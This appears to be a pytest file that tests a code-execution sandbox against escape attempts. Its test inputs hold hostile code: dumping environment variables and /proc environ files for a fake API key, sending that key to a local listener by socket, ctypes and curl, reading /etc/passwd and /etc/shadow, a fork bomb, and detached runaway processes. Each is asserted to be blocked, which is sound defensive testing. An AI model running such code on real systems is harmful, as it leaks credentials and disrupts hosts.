"""Each escape generated code tried against the old code check (issue 17), tried again against the sandbox."""

import logging
import os
import shutil
import socket
import sys
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

import pandas as pd
import psutil
import pytest

from schemas import records as col
from schemas.spec import load_spec
from tasks.verify import sandbox
from tasks.verify.check_runner import run_row_checks
from tasks.verify.row_checks import build_row_checks
from tasks.verify.sandbox import Limits, run_python, sandbox_problem
from tests.helpers.spec_factory import write_spec
from tests.helpers.waiting import wait_until

SECRET = "sk-ant-test-" + "s3cr3t" * 6
SITE_PACKAGES = os.path.join(
    os.path.realpath(sys.base_prefix),
    "lib",
    f"python{sys.version_info.major}.{sys.version_info.minor}",
    "site-packages",
)


@pytest.fixture(autouse=True)
def working_sandbox():
    """Every escape test runs against a sandbox that works here; a machine without one fails them, loudly."""
    sandbox_problem.cache_clear()
    assert sandbox_problem() is None
    yield
    sandbox_problem.cache_clear()


@pytest.fixture
def listener():
    """A host service on 127.0.0.1 that the code must not reach."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def assert_nothing_connected(server: socket.socket):
    with pytest.raises(BlockingIOError):
        server.accept()
    # The listener did listen: the host itself gets through.
    with socket.create_connection(server.getsockname(), timeout=5):
        server.setblocking(True)
        server.accept()[0].close()


def marked_processes(marker: str) -> list[psutil.Process]:
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if marker in " ".join(process.info["cmdline"] or []):
            found.append(process)
    return found


def test_parent_environment_is_out_of_reach(monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    code = f"""
import os
print(dict(os.environ))
for pid in [{os.getpid()}, {os.getppid()}, *[p for p in os.listdir('/proc') if p.isdigit()]]:
    try:
        data = open(f'/proc/{{pid}}/environ', 'rb').read()
        print(pid, data)
    except OSError as error:
        print(pid, type(error).__name__)
raise SystemExit(str(open('/proc/{os.getpid()}/environ', 'rb').read()))
"""
    result = run_python(code)
    assert f"{os.getpid()} FileNotFoundError" in result.output
    assert SECRET not in result.output and SECRET not in result.detail and "ANTHROPIC" not in result.output
    assert not result.passed and result.detail.startswith("FileNotFoundError")


@pytest.mark.parametrize("route", ["socket", "ctypes", "curl", "child_python"])
def test_no_network_not_even_the_host_loopback(route, listener):
    port = listener.getsockname()[1]
    attacks = {
        "socket": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'{SECRET}')",
        "ctypes": f"""
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
address = struct.pack('=H', socket.AF_INET) + struct.pack('!H', {port}) + socket.inet_aton('127.0.0.1') + bytes(8)
if libc.connect(fd, address, len(address)) != 0:
    raise SystemExit(f'connect failed: errno {{ctypes.get_errno()}}')
libc.send(fd, b'{SECRET}', {len(SECRET)}, 0)""",
        "curl": f"""
import subprocess
subprocess.run(['curl', '-sS', '-m', '2', '-d', '{SECRET}', 'http://127.0.0.1:{port}/'], check=True)""",
        "child_python": f"""
import subprocess, sys
reach = "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'{SECRET}')"
subprocess.run([sys.executable, '-c', reach], check=True)""",
    }
    if route == "curl" and shutil.which("curl") is None:
        pytest.skip("curl is not installed here")
    result = run_python(attacks[route])
    assert not result.passed
    assert_nothing_connected(listener)


def test_host_files_are_invisible():
    code = f"""
import os, sys
for path in ['/etc/passwd', '/etc/shadow', '/root', {str(sys.prefix)!r}, {os.getcwd()!r}]:
    print(path, os.path.exists(path))
print(os.listdir({SITE_PACKAGES!r}))
print(open('/etc/passwd').read())
"""
    result = run_python(code)
    assert "/etc/passwd False" in result.output and "/etc/shadow False" in result.output
    assert f"{sys.prefix} False" in result.output and f"{os.getcwd()} False" in result.output
    assert "[]" in result.output and "root:x:0" not in result.output
    assert result.detail.startswith("FileNotFoundError")


def test_nothing_outside_the_scratch_folder_can_be_written(tmp_path):
    victim = tmp_path / "README.md"
    victim.write_text("original")
    prefix = os.path.realpath(sys.base_prefix)
    code = f"""
import os
for path in [{str(victim)!r}, {prefix + "/pwned.txt"!r}, '/usr/pwned.txt', '/pwned.txt', '/tmp/scratch.txt']:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as handle:
            handle.write('pwned')
        print('wrote', path)
    except OSError as error:
        print('refused', path, type(error).__name__)
"""
    result = run_python(code)
    assert victim.read_text() == "original"
    assert not os.path.exists(prefix + "/pwned.txt") and not os.path.exists("/usr/pwned.txt")
    assert f"refused {prefix}/pwned.txt" in result.output and "refused /usr/pwned.txt" in result.output
    assert "refused /pwned.txt" in result.output and "wrote /tmp/scratch.txt" in result.output


def test_shell_commands_run_as_an_unprivileged_uid():
    code = """
import os
os.system('id -u > /tmp/uid')
status = dict(line.split(':', 1) for line in open('/proc/self/status'))
print('shell', open('/tmp/uid').read().strip(), 'owner', os.stat('/tmp/uid').st_uid)
caps = [status[name].strip() for name in ('CapEff', 'CapBnd', 'NoNewPrivs')]
print('uid', status['Uid'].split(), 'caps', *caps)
"""
    result = run_python(code)
    assert result.passed, result.detail
    shell_uid, owner = result.output.split()[1], result.output.split()[3]
    assert shell_uid == owner and int(owner) >= 1_000_000
    assert f"uid {[owner] * 4} caps 0000000000000000 0000000000000000 1" in result.output


def test_the_host_sees_an_unprivileged_uid_without_new_user_namespaces():
    marker = f"whoami-{uuid.uuid4().hex}"
    code = f"""
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), ctypes.get_errno(), flush=True)  # CLONE_NEWUSER
sys.argv.append({marker!r})
import subprocess
subprocess.run([sys.executable, '-c', 'while True: pass', {marker!r}])
"""
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(run_python, code, 5)
        seen = wait_until(lambda: marked_processes(marker), timeout=5, what="the sandboxed process")
        uids = {process.uids().real for process in seen}
        result = running.result()
    assert uids and all(uid >= 1_000_000 for uid in uids), uids
    assert result.output.split()[0] == "-1" and result.detail == "timed out after 5s"


def test_fork_bomb_is_bounded_by_the_process_limit():
    counted = """
import os, time
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
except OSError as error:
    print(len(children), type(error).__name__)
"""
    result = run_python(counted, timeout_seconds=10)
    forked, error = result.output.split()
    assert error == "BlockingIOError" and 0 < int(forked) < Limits().processes
    marker = f"bomb-{uuid.uuid4().hex}"
    started = time.monotonic()
    bomb = run_python(f"import os\n# {marker}\nwhile True:\n    os.fork()", timeout_seconds=2)
    assert not bomb.passed and time.monotonic() - started < 10
    assert marked_processes(marker) == []


@pytest.mark.parametrize("ending", ["exits", "times_out"])
def test_detached_grandchild_dies_with_the_run(ending):
    marker = f"grandchild-{uuid.uuid4().hex}"
    code = f"""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', {marker!r}])
    os._exit(0)
os.wait()
while not any({marker!r} in open(f'/proc/{{p}}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()):
    time.sleep(0.01)
print('seen', flush=True)
while {ending == "times_out"}:
    pass
"""
    result = run_python(code, timeout_seconds=3)
    assert result.output == "seen\n" and result.passed == (ending == "exits")
    assert marked_processes(marker) == []


def test_huge_output_is_cut_without_growing_the_parent():
    run_python("print(1)")
    before = psutil.Process().memory_info().rss
    result = run_python(
        "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(400):\n    sys.stdout.write(chunk)", timeout_seconds=30
    )
    grown = psutil.Process().memory_info().rss - before
    assert result.output_truncated and not result.passed and "output over" in result.detail
    assert len(result.output) == Limits().kept_bytes
    assert grown < 8 << 20, f"parent grew {grown >> 20} MB"


def test_memory_is_capped():
    assert run_python("x = bytearray(32 << 20)", memory_mb=256).passed
    result = run_python("x = bytearray(1 << 30)", memory_mb=64)
    assert not result.passed and result.detail == "MemoryError"


def test_endless_code_is_stopped_at_the_timeout():
    started = time.monotonic()
    result = run_python("while True: pass", timeout_seconds=1)
    assert result.detail == "timed out after 1s" and time.monotonic() - started < 3


@pytest.mark.parametrize("breakage", ["missing", "broken"])
def test_without_a_sandbox_code_rows_are_refused_not_run(breakage, tmp_path, monkeypatch, caplog):
    tools = tmp_path / "bin"
    tools.mkdir()
    if breakage == "broken":
        for name in ("bwrap", "prlimit", "setpriv"):
            (tools / name).write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n")
            (tools / name).chmod(0o755)
    monkeypatch.setenv("PATH", str(tools))
    sandbox_problem.cache_clear()
    witness = tmp_path / "ran-unisolated"
    spec = load_spec(write_spec(tmp_path, gates={"validators": {"code": {"categories": ["code"]}}}))
    rows = pd.DataFrame(
        {
            col.ID: ["a", "b"],
            col.CATEGORY: ["code", "code"],
            col.INSTRUCTION: ["x", "y"],
            col.INPUT: ["", ""],
            col.OUTPUT: ["```python\nprint(1)\n```", f"```python\nopen({str(witness)!r}, 'w').write('ran')\n```"],
        }
    )
    real = pd.DataFrame({col.ID: ["r"], col.INSTRUCTION: ["q"], col.INPUT: [""], col.OUTPUT: ["z"]})
    with caplog.at_level(logging.ERROR, logger=sandbox.__name__):
        kept, quarantined, _ = run_row_checks(rows, build_row_checks(spec, real))
    assert kept.empty and quarantined[col.REASON].tolist() == ["sandbox_unavailable"] * 2
    assert quarantined[col.DETAIL].str.contains("bwrap").all()
    assert not witness.exists()
    assert [r.message.split(":")[0] for r in caplog.records] == ["sandbox_unavailable"]


def test_a_run_stopped_before_bwrap_names_its_init_leaves_no_process(monkeypatch):
    # bwrap forks its namespace's init and only then reports its pid; a deadline in between (a loaded machine)
    # used to kill bwrap alone, and the init waited forever for bwrap's go-ahead. A stand-in forks a child that
    # outlives its parent and never reports it.
    marker = f"half-made-{uuid.uuid4().hex}"
    stand_in = "import os, time\nos.fork()\ntime.sleep(60)"
    monkeypatch.setattr(sandbox, "sandbox_command", lambda *args: [sys.executable, "-c", stand_in, marker])
    result = sandbox._run_isolated("print(1)", 1, 256, Limits())
    assert result.detail == "timed out after 1s"
    wait_until(lambda: not marked_processes(marker), 5, "the run's processes to be gone")
